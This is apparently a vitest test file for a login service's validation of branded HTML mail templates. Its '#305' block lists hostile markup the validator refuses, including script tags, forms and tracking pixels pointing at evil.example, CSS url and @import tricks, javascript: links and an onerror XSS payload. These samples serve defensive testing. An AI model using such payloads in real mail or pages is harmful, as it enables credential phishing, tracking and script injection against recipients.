import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { runCommand } from '../../cli/testing/run-command.ts';
import { mailKinds } from '../../platform/messages/mail-kinds.ts';
import { sampleMails } from '../../platform/messages/sample-mails.ts';
import { securityNoticeTemplate } from '../../platform/messages/templates/security-notice.template.ts';
import { catalog } from '../../platform/text/catalog.ts';
import { UnusableBrand } from './brand.ts';
import { refuseBadContents } from './content-faults.ts';
import { mailBrandOf } from './mail-brand-of.ts';
import { readBrand } from './read-brand.ts';
import { brandFolder, harbour } from './testing/brand-folder.ts';

const words = ['Subject: Reset', '# Reset', 'For {life}', '[Go]({link})'].join('\n');
const page = (body: string, head = '') => `<!doctype html>
<html><head><title>{service}</title>${head}</head>
<body>${body}<p>{life}</p><a href="{link}">Go</a></body></html>`;

/** Each fault as `file key: problem`. */
async function faultsIn(directory: string): Promise<string[]> {
  try {
    await refuseBadContents(readBrand(directory), directory);
    return [];
  } catch (error) {
    if (error instanceof UnusableBrand)
      return error.faults.map(({ file, key, problem }) => `${file} ${key}: ${problem}`);
    throw error;
  }
}

async function contextOf(directory: string) {
  const look = await mailBrandOf(readBrand(directory))();
  const { messages: texts } = catalog('en');
  return { ...look, channel: 'email', locale: 'en', texts, publicUrl: 'https://id.example.com' } as const;
}

async function faultsOf(html: string) {
  const { directory, write } = await brandFolder();
  await write('mail/password-reset.en.txt', words);
  await write('mail/password-reset.en.html', html);
  return faultsIn(directory);
}

describe('mail/KIND.LOCALE.html', () => {
  it('is the HTML part of the mail, next to the plain text made from the texts', async () => {
    const mail = sampleMails(await contextOf(harbour), 0).find(({ kind }) => kind === 'one-time-code');
    expect(mail?.html).toContain('class="tide"');
    expect(mail?.html).toMatch(/<p class="code"[^>]*>428913<\/p>/);
    expect(mail?.html).toContain('<img src="cid:logo@latchkey"');
    expect(mail?.html).toContain('Harbour &amp; Sons');
    expect(mail?.html).not.toMatch(/\{\w+\}/);
    expect(mail?.text).toContain('\n\n428913\n\n');
    expect(mail?.text).not.toContain('<');
  });

  it("can exist for every kind, with that kind's values", async () => {
    const { directory, write } = await brandFolder();
    for (const { kind, takes, blocks } of mailKinds()) {
      const named = [...takes, ...blocks.filter((block) => block !== 'link')].map((name) => `{${name}}`);
      const link = blocks.includes('link') ? '<a href="{link}">Go</a>' : '';
      const lines = blocks.map((block) => (block === 'link' ? '[Go]({link})' : `{${block}}`));
      const sentences = takes.map((name) => `{${name}}`).join(' ');
      await write(`mail/${kind}.en.txt`, ['Subject: Mine', '# Mine', sentences, ...lines].join('\n'));
      await write(`mail/${kind}.en.html`, `<p id="mine">${named.join(' ')}</p>${link}`);
    }
    expect(await faultsIn(directory)).toEqual([]);
    for (const { html } of sampleMails(await contextOf(directory), 0)) {
      expect(html).toContain('id="mine"');
      expect(html).not.toMatch(/\{\w+\}|undefined/);
    }
  });

  it('accepts the HTML that mail designers write', async () => {
    const head =
      '<meta http-equiv="Content-Type" content="text/html; charset=utf-8"><meta name="viewport" content="width=device-width">' +
      '<style>:root { color-scheme: light dark } @media (max-width:480px) { .a { width: 100% } }</style>';
    const body =
      '<!-- The card --><!--[if mso]><table width="560"><tr><td><![endif]-->' +
      '<table role="presentation" bgcolor="#ffffff"><tr><td style="background:#fff;padding:8px">&nbsp;{service}<br />' +
      '<img src="{logo}" alt="" width="40"><a href="https://harbour.example/help">Help</a> <a href="mailto:help@harbour.example">Write</a>' +
      '</td></tr></table><!--[if mso]></td></tr></table><![endif]-->';
    expect(await faultsOf(page(body, head))).toEqual([]);
  });

  it("is refused without texts for the plain part, and without the kind's required values", async () => {
    const { write, faults } = await brandFolder();
    await write('mail/account-recovery-code.en.html', '<p>Hello</p>');
    expect(faults()).toEqual([
      'mail/account-recovery-code.en.html: has no .txt file next to it with the subject and the plain text',
    ]);
    expect(await faultsOf('<p>Hello {link}</p>')).toEqual([
      'mail/password-reset.en.html href="{link}": is missing',
      'mail/password-reset.en.html {life}: is missing',
    ]);
  });

  it('is neither sent nor shown before it was checked', async () => {
    const { directory, write } = await brandFolder();
    await write('mail/password-reset.en.txt', words);
    await write('mail/password-reset.en.html', page('<script>1</script>'));
    const settings = { NODE_ENV: 'test', DATA_DIR: directory, BRAND_DIR: directory };
    const live = { MESSAGES: 'live', SMTP_URL: 'smtp://127.0.0.1:9', MAIL_FROM: 'id@example.com' };
    for (const [environment, args] of [
      [settings, ['preview', '--to', join(directory, 'mails')]],
      [settings, ['preview', '--to', join(directory, 'mails'), '--brand', directory]],
      [{ ...settings, ...live }, ['test', '--to', 'ann@example.com']],
    ] as const) {
      const { code, stderr } = await runCommand(environment, ['mail', ...args]);
      expect([code, stderr.join(' ')]).toEqual([1, expect.stringContaining('password-reset.en.html')]);
    }
  });

  it('falls back to the layout if a value that it names is unknown', async () => {
    const { directory, write } = await brandFolder();
    await write(
      'mail/notice-factor-added.en.txt',
      'Subject: On board\n# New\n{factor}\n{facts}\n[Look]({link})',
    );
    await write(
      'mail/notice-factor-added.en.html',
      '<p id="mine">{factor}</p>{facts}<a href="{link}">Look</a>',
    );
    const context = await contextOf(directory);
    const mail = (factor: object) =>
      securityNoticeTemplate({ kind: 'factor_added', at: 0, ...factor }, context).html;
    expect(mail({ factor: 'Passkey' })).toContain('<p id="mine">Passkey</p><table');
    expect(mail({})).not.toContain('id="mine"');
  });
});

it('#410 mail HTML with thousands of elements around each other is refused', async () => {
  expect((await faultsOf(page('<div>'.repeat(5_000)))).join()).toContain('elements around each other');
});

describe('#305 mail HTML that runs scripts, sends forms, loads or hides something', () => {
  it.each([
    '<script>1</script>',
    '<p onclick="x()">a</p>',
    '<iframe src="https://evil.example"></iframe>',
    '<form action="https://evil.example"><input name="password"></form>',
    '<img src="https://evil.example/seen.gif">',
    '<img src="data:image/png;base64,AAAA">',
    '<img src="{logo}" srcset="https://evil.example/seen.gif 2x">',
    '<table background="https://evil.example/seen.gif"></table>',
    '<p style="background:url(https://evil.example/seen.gif)">a</p>',
    '<p style="background:u\\rl(//evil.example)">a</p>',
    '<style>@import "https://evil.example/a.css";</style>',
    '<style>p { background: url("https://evil.example/seen.gif") }</style>',
    '<link rel="stylesheet" href="https://evil.example/a.css">',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<a href="javascript:x()">a</a>',
    '<a href="http://evil.example">a</a>',
    '<a href="https://evil.example/?{life}">a</a>',
    '<a href="{life}">a</a>',
    '<a href="{link}" href="https://evil.example">a</a>',
    '<p title="{service}">a</p>',
    '<p {life}>a</p>',
    '<svg><a href="https://evil.example">a</a></svg>',
    '<noscript><img src="https://evil.example/seen.gif"></noscript>',
    '<template><script>1</script></template>',
    '<!--[if mso]><img src="https://evil.example/seen.gif"><![endif]-->',
    '<!-- {life} -->',
    '<!-- <b> -->',
    '<p>{code}</p>',
    '<p>{nobody}</p>',
    '<p>{life</p>',
  ])('refuses %s and names the line', async (markup) => {
    expect(await faultsOf(page(`\n${markup}\n`))).toContainEqual(
      expect.stringContaining('mail/password-reset.en.html line 4'),
    );
  });

  it('escapes what a person or browser says about itself', async () => {
    const { directory, write } = await brandFolder();
    await write(
      'mail/notice-factor-added.en.txt',
      'Subject: On board\n# New\n{factor}\n{facts}\n[Look]({link})',
    );
    await write('mail/notice-factor-added.en.html', '<p>{factor}</p>{facts}<a href="{link}">Look</a>');
    const markup = '<img src=x onerror=alert(1)>';
    const { html } = securityNoticeTemplate(
      { kind: 'factor_added', at: 0, factor: `${markup}{link} evil.example`, device: markup },
      await contextOf(directory),
    );
    expect(html).not.toContain('<img');
    expect(html).toContain('&lt;img');
    // Neither a placeholder nor an address that a mail program would make a link.
    expect(html).toContain('{link} evil.\u200cexample</p>');
  });
});
